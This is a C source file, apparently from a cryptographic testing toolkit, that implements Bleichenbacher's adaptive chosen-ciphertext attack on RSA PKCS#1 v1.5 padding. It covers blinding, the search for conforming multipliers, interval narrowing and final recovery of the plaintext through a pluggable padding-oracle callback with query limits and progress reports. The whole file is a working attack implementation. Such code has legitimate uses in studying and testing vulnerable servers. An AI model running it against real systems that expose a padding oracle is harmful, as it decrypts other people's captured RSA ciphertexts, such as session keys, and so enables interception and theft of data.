/* ts_bleich: Bleichenbacher's adaptive chosen-ciphertext attack (1998). */
#include "ts_bleich.h"

#include <gmp.h>
#include <stdlib.h>
#include <string.h>

#include "ts_rsa.h"
#include "ts_secret.h"

typedef struct {
    mpz_t a, b;
} interval;

typedef struct {
    const ts_bleich_cfg *cfg;
    size_t k;
    mpz_t n, e, c0, B2, B3, x;
    uint8_t buf[TS_RSA_MAX_LEN];
    interval *m;        /* the set M */
    size_t nm, cap;
    ts_bleich_progress p;
} state;

static void from_bytes(mpz_t x, const uint8_t *in, size_t n)
{
    mpz_set_ui(x, 0);
    if (n > 0) {
        mpz_import(x, n, 1, 1, 0, 0, in);
    }
}

static void to_fixed(const mpz_t x, uint8_t *out, size_t k)
{
    size_t need = (mpz_sizeinbase(x, 2) + 7) / 8;
    memset(out, 0, k);
    if (mpz_sgn(x) != 0 && need <= k) {
        size_t count = 0;
        mpz_export(out + (k - need), &count, 1, 1, 0, 0, x);
    }
}

static void report(state *st, bool force)
{
    const ts_bleich_cfg *cfg = st->cfg;
    uint64_t every = cfg->progress_every > 0 ? cfg->progress_every : 1024;
    if (cfg->progress == NULL || (!force && st->p.queries % every != 0)) {
        return;
    }
    mpz_t w;
    mpz_init(w);
    unsigned widest = 0;
    for (size_t i = 0; i < st->nm; i++) {
        mpz_sub(w, st->m[i].b, st->m[i].a);
        unsigned bits = mpz_sgn(w) == 0 ? 0 : (unsigned)mpz_sizeinbase(w, 2);
        widest = bits > widest ? bits : widest;
    }
    mpz_clear(w);
    st->p.intervals = st->nm;
    st->p.width_bits = widest;
    cfg->progress(cfg->progress_ctx, &st->p);
}

/* Asks the oracle about c0 * s^e mod n. */
static ts_err ask(state *st, const mpz_t s, bool *ok)
{
    const ts_bleich_cfg *cfg = st->cfg;
    if (cfg->max_queries > 0 && st->p.queries >= cfg->max_queries) {
        return TS_ERR_TIMEOUT;
    }
    mpz_powm(st->x, s, st->e, st->n);
    mpz_mul(st->x, st->x, st->c0);
    mpz_mod(st->x, st->x, st->n);
    to_fixed(st->x, st->buf, st->k);
    TS_GUARD(cfg->oracle(cfg->oracle_ctx, st->buf, st->k, ok));
    st->p.queries++;
    report(st, false);
    return TS_OK;
}

static void cdiv(mpz_t q, const mpz_t a, const mpz_t b)
{
    mpz_cdiv_q(q, a, b);
}

static ts_err add_interval(state *st, const mpz_t lo, const mpz_t hi)
{
    /* merge with an overlapping interval when there is one */
    for (size_t i = 0; i < st->nm; i++) {
        if (mpz_cmp(lo, st->m[i].b) <= 0 && mpz_cmp(hi, st->m[i].a) >= 0) {
            if (mpz_cmp(lo, st->m[i].a) < 0) {
                mpz_set(st->m[i].a, lo);
            }
            if (mpz_cmp(hi, st->m[i].b) > 0) {
                mpz_set(st->m[i].b, hi);
            }
            return TS_OK;
        }
    }
    if (st->nm == st->cap) {
        size_t cap = st->cap == 0 ? 4 : st->cap * 2;
        interval *m = realloc(st->m, cap * sizeof(*m));
        TS_ENSURE(m != NULL, TS_ERR_NOMEM);
        st->m = m;
        st->cap = cap;
    }
    mpz_init_set(st->m[st->nm].a, lo);
    mpz_init_set(st->m[st->nm].b, hi);
    st->nm++;
    return TS_OK;
}

static void clear_intervals(interval *m, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        mpz_clears(m[i].a, m[i].b, NULL);
    }
}

/* Step 3: narrows M with the new s. */
static ts_err narrow(state *st, const mpz_t s)
{
    interval *old = st->m;
    size_t n_old = st->nm;
    st->m = NULL;
    st->nm = st->cap = 0;
    mpz_t r, r_hi, t, lo, hi;
    mpz_inits(r, r_hi, t, lo, hi, NULL);
    ts_err err = TS_OK;
    for (size_t i = 0; i < n_old && err == TS_OK; i++) {
        /* r from ceil((a s - 3B + 1) / n) to floor((b s - 2B) / n) */
        mpz_mul(t, old[i].a, s);
        mpz_sub(t, t, st->B3);
        mpz_add_ui(t, t, 1);
        cdiv(r, t, st->n);
        mpz_mul(t, old[i].b, s);
        mpz_sub(t, t, st->B2);
        mpz_fdiv_q(r_hi, t, st->n);
        for (; mpz_cmp(r, r_hi) <= 0 && err == TS_OK; mpz_add_ui(r, r, 1)) {
            mpz_mul(t, r, st->n);
            mpz_add(t, t, st->B2);
            cdiv(lo, t, s);
            if (mpz_cmp(lo, old[i].a) < 0) {
                mpz_set(lo, old[i].a);
            }
            mpz_mul(t, r, st->n);
            mpz_add(t, t, st->B3);
            mpz_sub_ui(t, t, 1);
            mpz_fdiv_q(hi, t, s);
            if (mpz_cmp(hi, old[i].b) > 0) {
                mpz_set(hi, old[i].b);
            }
            if (mpz_cmp(lo, hi) <= 0) {
                err = add_interval(st, lo, hi);
            }
        }
    }
    mpz_clears(r, r_hi, t, lo, hi, NULL);
    clear_intervals(old, n_old);
    free(old);
    TS_ENSURE(err != TS_OK || st->nm > 0, TS_ERR_PADDING); /* an oracle that lied */
    return err;
}

/* Step 2c: one interval [a, b]: r and s searched together. */
static ts_err search_one(state *st, mpz_t s)
{
    mpz_t r, t, s_hi;
    mpz_inits(r, t, s_hi, NULL);
    const interval *iv = &st->m[0];
    /* r >= 2 (b s - 2B) / n */
    mpz_mul(t, iv->b, s);
    mpz_sub(t, t, st->B2);
    mpz_mul_2exp(t, t, 1);
    cdiv(r, t, st->n);
    ts_err err = TS_OK;
    bool ok = false;
    while (!ok && err == TS_OK) {
        mpz_mul(t, r, st->n);
        mpz_add(t, t, st->B2);
        cdiv(s, t, iv->b);
        mpz_mul(t, r, st->n);
        mpz_add(t, t, st->B3);
        cdiv(s_hi, t, iv->a); /* s < (3B + r n) / a */
        for (; mpz_cmp(s, s_hi) < 0 && !ok && err == TS_OK;) {
            err = ask(st, s, &ok);
            if (!ok) {
                mpz_add_ui(s, s, 1);
            }
        }
        mpz_add_ui(r, r, 1);
    }
    mpz_clears(r, t, s_hi, NULL);
    return err;
}

/* Steps 2a and 2b: the next conforming s from s (included) upwards. */
static ts_err search_from(state *st, mpz_t s)
{
    bool ok = false;
    ts_err err = TS_OK;
    while (!ok && err == TS_OK) {
        err = ask(st, s, &ok);
        if (!ok) {
            mpz_add_ui(s, s, 1);
        }
    }
    return err;
}

/* Step 1: c0 = c s0^e conforming; s0 = 1 when c already is. */
static ts_err blind(state *st, const mpz_t c, mpz_t s0)
{
    const ts_bleich_cfg *cfg = st->cfg;
    bool ok = false;
    mpz_set(st->c0, c);
    mpz_set_ui(s0, 1);
    TS_GUARD(ask(st, s0, &ok));
    if (ok) {
        return TS_OK;
    }
    TS_ENSURE(cfg->blind && cfg->rng != NULL, TS_ERR_PADDING);
    st->p.phase = "blinding";
    mpz_t one;
    mpz_init_set_ui(one, 1);
    ts_err err = TS_OK;
    while (!ok && err == TS_OK) {
        ts_rng_bytes(cfg->rng, st->buf, st->k);
        from_bytes(s0, st->buf, st->k);
        mpz_mod(s0, s0, st->n);
        if (mpz_cmp_ui(s0, 1) <= 0) {
            continue;
        }
        mpz_powm(st->c0, s0, st->e, st->n);
        mpz_mul(st->c0, st->c0, c);
        mpz_mod(st->c0, st->c0, st->n);
        err = ask(st, one, &ok);
    }
    mpz_clear(one);
    return err;
}

static ts_err attack(state *st, const mpz_t c, mpz_t result)
{
    mpz_t s0, s;
    mpz_inits(s0, s, NULL);
    st->p.phase = "1";
    ts_err err = blind(st, c, s0);
    mpz_t lo, hi;
    mpz_inits(lo, hi, NULL);
    mpz_set(lo, st->B2);
    mpz_sub_ui(hi, st->B3, 1);
    if (err == TS_OK) {
        err = add_interval(st, lo, hi);
    }
    if (err == TS_OK) { /* step 2a: s1 >= (n + 2B) / 3B (below it m s wraps into no 00 02 block) */
        st->p.phase = "2a";
        report(st, true);
        mpz_add(lo, st->n, st->B2);
        cdiv(s, lo, st->B3);
        err = search_from(st, s);
    }
    while (err == TS_OK) {
        st->p.iteration++;
        err = narrow(st, s);
        report(st, true);
        if (err != TS_OK || (st->nm == 1 && mpz_cmp(st->m[0].a, st->m[0].b) == 0)) {
            break;
        }
        if (st->nm > 1) {
            st->p.phase = "2b";
            mpz_add_ui(s, s, 1);
            err = search_from(st, s);
        } else {
            st->p.phase = "2c";
            err = search_one(st, s);
        }
    }
    if (err == TS_OK && mpz_invert(s0, s0, st->n) == 0) {
        err = TS_ERR_RSA_KEY;
    }
    if (err == TS_OK) { /* step 4: m = a s0^-1 mod n */
        mpz_mul(result, st->m[0].a, s0);
        mpz_mod(result, result, st->n);
        st->p.phase = "done";
        report(st, true);
    }
    mpz_clears(s0, s, lo, hi, NULL);
    return err;
}

ts_err ts_bleich_attack(const ts_bleich_cfg *cfg, const uint8_t *c, size_t c_len, ts_buf *out,
                        uint64_t *queries)
{
    TS_ENSURE(cfg != NULL && cfg->oracle != NULL && cfg->n != NULL && cfg->e != NULL && c != NULL &&
                  out != NULL,
              TS_ERR_ARG);
    state st;
    memset(&st, 0, sizeof(st));
    st.cfg = cfg;
    mpz_inits(st.n, st.e, st.c0, st.B2, st.B3, st.x, NULL);
    from_bytes(st.n, cfg->n, cfg->n_len);
    from_bytes(st.e, cfg->e, cfg->e_len);
    st.k = (mpz_sizeinbase(st.n, 2) + 7) / 8;
    ts_err err = st.k >= 16 && st.k <= TS_RSA_MAX_LEN && mpz_odd_p(st.n) ? TS_OK : TS_ERR_RSA_SIZE;
    mpz_t cc, m;
    mpz_inits(cc, m, NULL);
    from_bytes(cc, c, c_len);
    if (err == TS_OK && mpz_cmp(cc, st.n) >= 0) {
        err = TS_ERR_RSA_RANGE;
    }
    if (err == TS_OK) {
        /* B = 2^(8(k-2)): 2B <= m < 3B for a block starting 00 02 */
        mpz_setbit(st.B2, 8 * (st.k - 2) + 1);
        mpz_setbit(st.B3, 8 * (st.k - 2));
        mpz_add(st.B3, st.B3, st.B2);
        st.p.total_bits = (unsigned)(8 * (st.k - 2));
        err = attack(&st, cc, m);
    }
    if (err == TS_OK) {
        to_fixed(m, st.buf, st.k);
        err = ts_buf_write_bytes(out, st.buf, st.k);
    }
    if (queries != NULL) {
        *queries = st.p.queries;
    }
    ts_secret_wipe(st.buf, sizeof(st.buf));
    clear_intervals(st.m, st.nm);
    free(st.m);
    mpz_clears(st.n, st.e, st.c0, st.B2, st.B3, st.x, cc, m, NULL);
    return err;
}
